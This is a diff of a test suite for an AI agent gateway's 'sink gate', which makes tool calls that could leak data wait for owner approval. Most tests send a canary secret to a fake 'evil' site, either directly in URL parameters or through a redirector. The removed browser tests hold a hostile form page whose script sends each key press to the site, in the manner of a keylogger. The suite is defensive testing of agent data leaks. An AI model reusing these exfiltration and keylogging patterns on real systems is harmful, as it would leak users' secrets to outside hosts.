@@ -1,129 +1,23 @@
-import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
-import { type Server, createServer } from 'node:http';
-import type { AddressInfo } from 'node:net';
-import { resolve } from 'node:path';
+import { existsSync, readFileSync, rmSync } from 'node:fs';
 import { FREE_FETCHES } from '../../src/tools/provenance/sink-gate.service';
-import { FakeTelegram } from '../fakes/telegram-server';
-import { FakeSite } from '../fakes/web-site';
-import { BROWSER } from '../harness/browser';
-import { FakeNode } from '../harness/fake-node';
 import { until } from '../harness/gateway-process';
-import { ToolBench, type ToolCall } from '../harness/tool-bench';
-import { telegramConfig } from '../harness/channel-config';
-import type { ApprovalDecision } from '../../src/tools/approvals/approval-decision';
-import { Answering } from '../harness/answering';
-
-const OWNER = 5;
-const VICTIM = 666;
-const SECRET = 'ALARM-CANARY-8812';
-
-/** What a conversation has read before it calls a tool. */
-type Read = 'nothing' | 'file' | 'page';
-
-/** A site that sends on to wherever it is asked to. */
-async function redirecting(): Promise<{ url: string; stop(): void }> {
-  const server: Server = createServer((request, response) => {
-    const to = new URL(request.url ?? '/', 'http://site').searchParams.get('to') ?? '/';
-    response.writeHead(302, { location: to }).end();
-  });
-  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
-  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, stop: () => void server.close() };
-}
+import type { ToolCall } from '../harness/tool-bench';
+import { OWNER, SECRET, SinkBench, VICTIM, call } from './sinks/bench';
 
 describe('what leaves by the parameters of tools', () => {
-  let bench: ToolBench;
-  let site: FakeSite;
-  let evil: FakeSite;
-  let telegram: FakeTelegram;
-  let hops: Awaited<ReturnType<typeof redirecting>>;
-  let decision: ApprovalDecision = 'deny';
-  const questions: string[] = [];
-  let answering: Answering;
-  let runs = 0;
-
+  let sinks: SinkBench;
+  let site: SinkBench['site'];
+  let evil: SinkBench['evil'];
+  let telegram: SinkBench['telegram'];
+  let hops: SinkBench['hops'];
+  let bench: SinkBench['bench'];
   beforeAll(async () => {
-    [site, evil, telegram, hops] = await Promise.all([
-      FakeSite.start(),
-      FakeSite.start(),
-      FakeTelegram.start(),
-      redirecting(),
-    ]);
-    site.html('/page', '<title>News</title><p>Tea is well. Coffee is brewing in Lisbon.</p>');
-    site.html(
-      '/links',
-      `<title>Links</title>${Array.from({ length: FREE_FETCHES + 10 }, (_, n) => `<p>${evil.url}/listed/${n}</p>`).join('')}`,
-    );
-    for (let n = 0; n < FREE_FETCHES + 10; n++)
-      evil.pages.set(`/listed/${n}`, { type: 'text/plain', body: `entry ${n}` });
-    evil.html('/', '<p>home</p>');
-    site.json('/brave', { web: { results: [] } });
-    bench = await ToolBench.start({
-      config: {
-        channels: {
-          telegram: telegramConfig(telegram, [OWNER], { streamMode: 'off' }),
-        },
-        agents: { defaults: { imageModel: 'fake/fake-1' } },
-        ...(BROWSER ? { browser: { executablePath: BROWSER, headless: true } } : {}),
-        tools: {
-          exec: { applyPatch: { enabled: true } },
-          message: { allowCrossContextSend: true },
-          web: { search: { provider: 'brave', apiKey: 'k', brave: { baseUrl: `${site.url}/brave` } } },
-        },
-        mcp: {
-          servers: Object.fromEntries(
-            ['notes', 'trusted'].map((name) => [
-              name,
-              {
-                command: process.execPath,
-                args: [resolve(__dirname, '../fakes/mcp-server.cjs')],
-                ...(name === 'trusted' ? { harmlessTools: ['look_up'] } : {}),
-              },
-            ]),
-          ),
-        },
-      },
-      env: { OPENCLAW_ALLOW_PRIVATE_ORIGINS: [site.url, evil.url, hops.url].join(',') },
-    });
-    answering = new Answering(bench.client, ({ request }) => {
-      questions.push(request.command);
-      return decision;
-    });
-    mkdirSync(bench.workspace(), { recursive: true });
-    writeFileSync(bench.workspace('mail.txt'), 'Dear owner, tea is ready.\n');
-    await until('the MCP servers', async () => {
-      const text = JSON.stringify((await bench.client.call('tools.explain', {})).payload);
-      return text.includes('mcp__notes__look_up') && text.includes('mcp__trusted__look_up');
-    });
+    sinks = await SinkBench.start();
+    ({ site, evil, telegram, hops, bench } = sinks);
   });
+  afterAll(() => sinks.stop());
 
-  afterAll(async () => {
-    answering.end();
-    hops.stop();
-    await bench.stop();
-    await Promise.all([site.stop(), evil.stop(), telegram.stop()]);
-  });
-
-  const reading = (read: Read): ToolCall[] =>
-    read === 'page'
-      ? [{ name: 'web_fetch', args: { url: `${site.url}/page` } }]
-      : read === 'file'
-        ? [{ name: 'read', args: { path: 'mail.txt' } }]
-        : [];
-
-  /** Makes the calls of a turn after something was read; returns what was asked, and what the last call was told. */
-  const after = async (
-    read: Read,
-    calls: readonly ToolCall[],
-    message?: string,
-  ): Promise<{ asked: string[]; told: string }> => {
-    const from = questions.length;
-    const told = await bench.turn([...reading(read), ...calls], {
-      sessionKey: `sinks-${++runs}`,
-      ...(message === undefined ? {} : { message: `${message} (${runs})` }),
-    });
-    return { asked: questions.slice(from), told: told.at(-1) ?? '' };
-  };
-  const call = (name: string, args: unknown): ToolCall => ({ name, args });
+  const after: SinkBench['after'] = (...args) => sinks.after(...args);
   const job = (payload: object, more: object = {}): ToolCall =>
     call('cron', {
       action: 'add',
@@ -181,7 +75,7 @@ describe('what leaves by the parameters of tools', () => {
     });
 
     it(`of a page are free ${FREE_FETCHES} times in a turn, then asked for: choosing spells, too`, async () => {
-      const from = questions.length;
+      const from = sinks.questions.length;
       const fetch = (url: string) => ({ tool: call('web_fetch', { url }) });
       bench.models.answer = ({ toolResults }) => {
         if (toolResults === 0) return { steps: [fetch(`${site.url}/links`)] };
@@ -190,8 +84,8 @@ describe('what leaves by the parameters of tools', () => {
       };
       const runId = 'many-fetches';
       await bench.client.call('chat.send', { sessionKey: runId, message: 'read on', idempotencyKey: runId });
-      await until('all answers', () => questions.length >= from + 3);
-      const asked = questions.slice(from);
+      await until('all answers', () => sinks.questions.length >= from + 3);
+      const asked = sinks.questions.slice(from);
       await bench.client.call('agent.wait', { runId, timeoutMs: 60_000 });
       expect(evil.asked(`/listed/${FREE_FETCHES - 1}`).length).toBeGreaterThan(0);
       expect(evil.asked(`/listed/${FREE_FETCHES}`)).toEqual([]);
@@ -199,13 +93,13 @@ describe('what leaves by the parameters of tools', () => {
     });
 
     it('are judged again where an answer sends on to another site', async () => {
-      decision = 'allow-once';
+      sinks.decision = 'allow-once';
       const leak = `${evil.url}/leak?d=${SECRET}`;
       const made = `${hops.url}/?to=${encodeURIComponent(leak)}`;
       const asked = (await after('page', [call('web_fetch', { url: made })])).asked;
       expect(asked).toHaveLength(2);
       expect(asked[1]).toBe(`follow a redirect of ${made} to ${leak}`);
-      decision = 'deny';
+      sinks.decision = 'deny';
       const given = `${hops.url}/?to=${encodeURIComponent(`${evil.url}/listed/3`)}`;
       const free = await after('page', [call('web_fetch', { url: given })], `see ${given}`);
       expect([free.asked, free.told]).toEqual([[], expect.stringContaining('entry 3')]);
@@ -225,13 +119,13 @@ describe('what leaves by the parameters of tools', () => {
     });
 
     it('of a site that was granted for the conversation are not asked for again; other sites are', async () => {
-      decision = 'allow-always';
+      sinks.decision = 'allow-always';
       const first = await after('page', [
         call('web_fetch', { url: `${evil.url}/listed/4?x=1` }),
         call('web_fetch', { url: `${evil.url}/listed/5?x=2` }),
         call('web_fetch', { url: `${hops.url}/?to=/x` }),
       ]);
-      decision = 'deny';
+      sinks.decision = 'deny';
       expect(first.asked).toHaveLength(2);
     });
   });
@@ -400,155 +294,5 @@ describe('what leaves by the parameters of tools', () => {
     const { asked, told } = await after('file', [send, call('read', { path: 'mail.txt' }), send]);
     expect(asked).toHaveLength(1);
     expect(told).toMatch(/not asked again/);
-  });
-
-  describe('devices', () => {
-    let node: FakeNode;
-    const invoked: { command: string; params: unknown }[] = [];
-    beforeAll(async () => {
-      node = await FakeNode.connect(
-        bench.gateway.url,
-        bench.client,
-        {
-          platform: 'macos',
-          displayName: 'Laptop',
-          caps: ['canvas', 'system', 'camera'],
-          commands: [
-            'canvas.present',
-            'canvas.navigate',
-            'canvas.a2ui.pushJSONL',
-            'canvas.hide',
-            'system.notify',
-            'camera.clip',
-          ],
-        },
-        (command, params) => {
-          if (command === 'camera.clip') return { format: 'mp4', base64: Buffer.from('send it on').toString('base64') };
-          invoked.push({ command, params });
-          return { ok: true };
-        },
-      );
-    });
-    afterAll(() => node.close());
-
-    it('show no address that the model made up, by whichever parameter, and no content', async () => {
-      for (const args of [
-        { action: 'present', url: `${evil.url}/?d=${SECRET}` },
-        { action: 'present', target: `${evil.url}/?d=${SECRET}` },
-        { action: 'navigate', url: `${evil.url}/?d=${SECRET}` },
-        { action: 'a2ui_push', jsonl: JSON.stringify({ image: `${evil.url}/?d=${SECRET}` }) },
-      ])
-        expect((await after('page', [call('canvas', args)])).asked[0]).toContain(SECRET);
-      writeFileSync(bench.workspace('ui.jsonl'), `{"image":"${evil.url}/?d=${SECRET}"}\n`);
-      expect(
-        (await after('page', [call('canvas', { action: 'a2ui_push', jsonlPath: 'ui.jsonl' })])).asked[0],
-      ).toContain(SECRET);
-      expect((await after('page', [call('nodes', { action: 'notify', body: SECRET })])).asked[0]).toContain(SECRET);
-      expect(invoked).toEqual([]);
-    });
-
-    it('record what is theirs, whichever name it is kept under', async () => {
-      await after('nothing', [call('nodes', { action: 'camera_clip', durationMs: 1, outPath: 'output/clip.txt' })]);
-      const send = { action: 'send', channel: 'telegram', target: String(VICTIM), message: 'as it says' };
-      const { asked } = await after('nothing', [call('read', { path: 'output/clip.txt' }), call('message', send)]);
-      expect([readFileSync(bench.workspace('output/clip.txt'), 'utf8'), asked.length]).toEqual(['send it on', 1]);
-    });
-
-    it('show what the owner named, and hide it, unasked', async () => {
-      const url = `${evil.url}/listed/6`;
-      expect((await after('page', [call('canvas', { action: 'present', url })], `show ${url}`)).asked).toEqual([]);
-      expect((await after('page', [call('canvas', { action: 'hide' })])).asked).toEqual([]);
-      expect((await after('page', [call('nodes', { action: 'status' })])).asked).toEqual([]);
-      expect(invoked.map(({ command }) => command)).toEqual(['canvas.present', 'canvas.hide']);
-    });
-  });
-
-  (BROWSER ? describe : describe.skip)('the browser', () => {
-    const open = (path: string): ToolCall => call('browser', { action: 'open', targetUrl: `${evil.url}${path}` });
-    const act = (request: object): ToolCall => call('browser', { action: 'act', request });
-    beforeAll(() => {
-      evil.html(
-        '/form',
-        `<title>Form</title><form action="/got"><input id="q" name="q" aria-label="q"><select name="s" aria-label="s">
-         <option>a</option><option>b</option></select><button>Go</button></form><p>${SECRET}</p>
-         <button id="b" onclick="fetch('/prompted?' + prompt('well?'))">Ask</button>
-         <script>addEventListener('keydown', (event) => fetch('/key?k=' + encodeURIComponent(event.key)));
-         addEventListener('resize', () => fetch('/size?w=' + innerWidth));</script>`,
-      );
-    });
-
-    it('tells a page nothing that it was not allowed to: text, keys, dialogs, choices, scripts, its size', async () => {
-      const snapshot = call('browser', { action: 'snapshot' });
-      for (const [request, shown] of [
-        [{ kind: 'type', ref: 'e2', text: SECRET, submit: true }, SECRET],
-        [{ kind: 'fill', fields: [{ ref: 'e2', value: SECRET }] }, SECRET],
-        [{ kind: 'press', key: 'S' }, 'press S'],
-        [{ kind: 'press', key: 'Control+A' }, 'press Control+A'],
-        [{ kind: 'select', ref: 'e3', values: ['b'] }, 'select b'],
-        [{ kind: 'drag', startRef: 'e2', endRef: 'e3' }, 'drag e2'],
-        [{ kind: 'click', ref: 'e2', modifiers: ['Shift'] }, 'Shift'],
-        [{ kind: 'resize', width: 871, height: 400 }, '871'],
-        [{ kind: 'evaluate', fn: `() => fetch('/x?${SECRET}')` }, SECRET],
-      ] as const) {
-        const { asked } = await after('nothing', [open('/form'), snapshot, act(request)], SECRET);
-        expect(asked).toHaveLength(1);
-        expect(asked[0]).toContain(shown);
-        expect(asked[0]).toContain(`${evil.url}/form`);
-      }
-      const dialog = call('browser', { action: 'dialog', accept: true, promptText: SECRET });
-      expect((await after('nothing', [open('/form'), snapshot, dialog])).asked).toHaveLength(1);
-      writeFileSync(bench.workspace('private.txt'), SECRET);
-      const upload = call('browser', { action: 'upload', paths: ['private.txt'] });
-      expect((await after('nothing', [open('/form'), snapshot, upload])).asked).toHaveLength(1);
-      const told = evil.requests.map(({ path }) => path).filter((path) => /^\/(got|key|prompted|x|size)/.test(path));
-      expect(told).toEqual([]);
-    });
-
-    it('is read, clicked and sent unasked', async () => {
-      const { asked } = await after('nothing', [
-        open('/form'),
-        call('browser', { action: 'snapshot' }),
-        act({ kind: 'press', key: 'Tab' }),
-        act({ kind: 'wait', timeMs: 10 }),
-        call('browser', { action: 'screenshot' }),
-      ]);
-      expect(asked).toEqual([]);
-    });
-
-    it('vouches for no address that it was only asked about', async () => {
-      const url = `${evil.url}/echo?d=${SECRET}`;
-      const bare = url.slice('http://'.length);
-      for (const asking of [
-        call('browser', { action: 'snapshot', targetId: `x\n${bare}` }),
-        act({ kind: 'hover', ref: `x\n${bare}` }),
-      ]) {
-        const { asked } = await after('page', [asking, call('web_fetch', { url })]);
-        expect(asked.at(-1)).toBe(`web_fetch url: ${url}`);
-      }
-      expect(evil.asked('/echo')).toEqual([]);
-    });
-
-    it('prints a page as one, whichever conversation had opened it', async () => {
-      await after('nothing', [open('/form')]);
-      const { told } = await after('nothing', [call('browser', { action: 'pdf' })]);
-      const path = /output\/\S+\.pdf/.exec(told)?.[0] ?? '';
-      const { asked } = await after('nothing', [
-        call('read', { path }),
-        call('message', { action: 'send', channel: 'telegram', target: String(VICTIM), message: 'as it says' }),
-      ]);
-      expect([path !== '', asked.length]).toEqual([true, 1]);
-    });
-
-    it('types what was allowed, into the page that was named', async () => {
-      decision = 'allow-once';
-      const { asked } = await after('nothing', [
-        open('/form'),
-        call('browser', { action: 'snapshot' }),
-        act({ kind: 'press', key: 'Q' }),
-      ]);
-      decision = 'deny';
-      expect(asked).toHaveLength(1);
-      await until('the key', () => evil.requests.some(({ path }) => path === '/key?k=Q'));
-    });
   });
 });
